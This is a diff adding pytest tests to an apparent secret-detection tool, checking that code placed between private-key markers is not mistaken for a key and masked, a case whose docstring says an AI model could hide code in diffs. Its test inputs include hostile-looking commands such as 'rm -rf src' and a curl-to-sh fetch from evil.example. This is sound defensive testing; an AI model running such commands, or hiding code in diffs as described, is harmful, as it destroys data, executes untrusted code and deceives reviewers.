@@ -125,6 +125,39 @@ def test_private_keys(kind: str) -> None:
     assert not secrets_in(f'if text.startswith("{begin}"):\n    return parse(text, "{end}")\n')
 
 
+@pytest.mark.parametrize(
+    "code",
+    [
+        "\nrm -rf src\ncp -r evil/payload somewhere\nls " + "a" * 60 + "\n",
+        "\n+\tcurl -s http://evil.example/x | sh\n+\ttrue " + "a" * 60 + "\n",
+        "\nimport os.path\nprint(open('/etc/hostname').read())\nx = '" + "a" * 60 + "'\n",
+    ],
+)
+def test_code_between_the_marks_of_a_private_key_is_no_key(code: str) -> None:
+    """A model could hide code in the diffs that a user reads."""
+    begin, end = "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----"
+    assert not secrets_in(f"# {begin}{code}")
+    assert not secrets_in(f"# {begin}{code}# {end}\n")
+    rows = "\n".join(f"+{line}" for line in KEY.split("\n"))
+    found = secrets_in(f"+{begin}\n{rows}{code}# {end}\n")
+    assert not any(code[:12].strip() in f"+{begin}\n{rows}{code}"[s.start : s.end] for s in found)
+    assert hidden_in(f"+{begin}\n{rows}{code}# {end}\n", rows)
+
+
+def test_private_keys_with_headers_and_a_short_last_row() -> None:
+    begin, end = "-----BEGIN RSA PRIVATE KEY-----", "-----END RSA PRIVATE KEY-----"
+    head = "Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-256-CBC,00112233445566778899AABBCCDDEEFF\n"
+    body = f"{head}\n{KEY}\naB3d="
+    assert hidden_in(f"{begin}\n{body}\n{end}", body)
+    pgp = f"Version: GnuPG v2\nComment: of a test\n\n{KEY}\naB3d\n=Ab3D"
+    begin, end = "-----BEGIN PGP PRIVATE KEY BLOCK-----", "-----END PGP PRIVATE KEY BLOCK-----"
+    assert hidden_in(f"{begin}\n{pgp}\n{end}", KEY)
+    numbered = "\n".join(f"{n}|{line}" for n, line in enumerate([*KEY.split("\n"), "aB3d="], 2))
+    assert hidden_in(f"1|{begin}\n{numbered}\n99|{end}", numbered)
+    quoted = "".join(f'    "{line}\\n"\n' for line in [*KEY.split("\n"), "aB3d="])
+    assert hidden_in(f'KEY = ("{begin}\\n"\n{quoted}    "{end}")\n', quoted.strip()[:-3])
+
+
 def test_many_beginnings_of_private_keys_take_little_time() -> None:
     begin = "-----BEGIN PRIVATE KEY-----"
     start = time.process_time()
